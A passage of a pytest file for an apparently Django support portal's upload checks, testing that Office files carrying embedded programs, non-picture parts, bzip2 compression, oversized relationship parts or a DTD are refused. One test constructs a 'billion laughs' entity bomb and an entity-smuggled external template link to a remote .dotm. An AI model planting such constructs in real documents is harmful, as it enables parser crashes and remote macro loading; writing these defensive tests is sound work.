            {"xl/media/image1.png": zlib.compress(EXE, wbits=31)},
            "has another file embedded in it (xl/media/image1.png)",
        ),
        # Pictures must be pictures: markup (SVG), or anything else, is refused.
        (
            "icono.docx",
            {"word/media/image4.svg": SVG},
            "contains a part that is not a picture in a format we accept (word/media/image4.svg)",
        ),
        (
            "texto.docx",
            {"word/media/image1.png": b"Just some text in a picture's place\n"},
            "contains a part that is not a picture in a format we accept (word/media/image1.png)",
        ),
        (
            "miniatura.docx",
            {"docProps/thumbnail.jpeg": HTA},
            "contains a part that is not a picture in a format we accept (docProps/",
        ),
    ],
)
def test_a_program_or_archive_hidden_among_the_parts_is_refused(
    portal_admin_client, ticket, name, extra, says
):
    content = excel(extra) if name.endswith(".xlsx") else word(extra)
    page = _refused(portal_admin_client, ticket, name, content)
    assert f"{name} {says}" in page, page


def test_a_part_compressed_in_a_way_office_never_uses_is_refused(portal_admin_client, ticket):
    """Office writes parts stored or deflated. bzip2 and LZMA decompress without a bound on what
    a few KB expand to, so such an archive is not opened further."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for part, data in _word_members().items():
            method = zipfile.ZIP_BZIP2 if part == "word/document.xml" else zipfile.ZIP_DEFLATED
            archive.writestr(part, data, compress_type=method)

    page = _refused(portal_admin_client, ticket, "bz.docx", buffer.getvalue())
    assert "bz.docx is a damaged or password-protected file" in page


def test_a_relationship_part_with_a_dtd_is_refused_before_its_entities_expand(
    portal_admin_client, ticket
):
    """The package format forbids DTDs; with one, an entity could spell TargetMode="External",
    or expand a billion times. Refused as damaged, at once."""
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">' for n in range(10))
    rels = (
        f'{_XML}<!DOCTYPE Relationships [<!ENTITY ext "External">{laughs}]>'
        f'<Relationships xmlns="{_REL}"><Relationship Id="rId1" Type="{_RELS}/attachedTemplate" '
        'Target="http://198.51.100.7/t.dotm" TargetMode="&ext;"/><x>&l9;</x></Relationships>'
    ).encode()

    page = _refused(
        portal_admin_client, ticket, "dtd.docx", word({"word/_rels/settings.xml.rels": rels})
    )
    assert "dtd.docx is a damaged or password-protected file" in page


def test_relationships_past_their_cap_are_refused_without_reading_on(
    portal_admin_client, ticket, monkeypatch
):
    from core.lib import uploads

    monkeypatch.setattr(uploads, "OFFICE_RELATIONSHIPS_MAX_MB", 1)
    links = [
        (f"{_RELS}/hyperlink", f"https://example.net/{n:07d}", "External") for n in range(20_000)
    ]
    rels = relationships(*links)
    assert len(rels) > 1024 * 1024

    page = _refused(
        portal_admin_client,
        ticket,
        "enlaces.xlsx",
        excel({"xl/worksheets/_rels/sheet1.xml.rels": rels}),
    )
    assert "enlaces.xlsx has more relationships between its parts than we can check" in page


def test_checking_a_large_office_file_stays_fast():
    """Every part is opened: 1,999 parts (the cap is 2,000), 400 of them relationship parts with
    50 links each. Measured: about 0.1 s on 2 vCPUs (16 MB of relationship parts, the cap:
    about 0.3 s)."""
    import time

    from core.lib.uploads import content_type_sniff

    links = relationships(
        *[(f"{_RELS}/hyperlink", f"https://example.net/{n}", "External") for n in range(50)]
    )
    members = _excel_members()
    for n in range(400):
        members[f"xl/worksheets/sheet{n + 2}.xml"] = members["xl/worksheets/sheet1.xml"]
        members[f"xl/worksheets/_rels/sheet{n + 2}.xml.rels"] = links
    for n in range(1999 - len(members)):
        members[f"xl/media/image{n + 2}.png"] = png()
    assert len(members) == 1999
    upload = SimpleUploadedFile("big.xlsx", _zip(members))

    started = time.perf_counter()
    assert content_type_sniff(upload) == XLSX
    assert time.perf_counter() - started < 3


# --- what the form says about text files (QA review) ---------------------------------------------


@pytest.mark.parametrize(
    ("language", "says"),
    [
        ("en", "plain text (.txt, .log, .csv — served as .txt)"),
        ("es", "texto (.txt, .log, .csv; se descargan como .txt)"),
        ("pt-br", "texto (.txt, .log, .csv; são baixados como .txt)"),
    ],
)
def test_the_forms_say_that_text_files_come_back_as_txt(
    portal_admin_client, portal_admin_user, ticket, language, says
):
    portal_admin_user.language = language
    portal_admin_user.save()

    for url in (
        reverse("tickets:create"),
        reverse("tickets:detail", args=[ticket.number]),
        reverse("billing:request_create"),
    ):
        page = html.unescape(portal_admin_client.get(url).content.decode())
        assert says in page, url


def test_a_csv_is_stored_and_served_as_txt_as_the_form_says(portal_admin_client, ticket):
    csv = "fecha;enlace;latencia_ms\n2026-12-07 03:00;AR-BUE-IPVPN-20001;38,4 ±0,2\n".encode()

    assert _reply(portal_admin_client, ticket, "latencias.csv", csv).status_code == 302

    attachment = Attachment.objects.get()
    assert (attachment.filename, attachment.content_type) == ("latencias.txt", "text/plain")
    response, body = _download(portal_admin_client, ticket, attachment)
    assert response["Content-Disposition"] == 'attachment; filename="latencias.txt"'
    assert body == csv
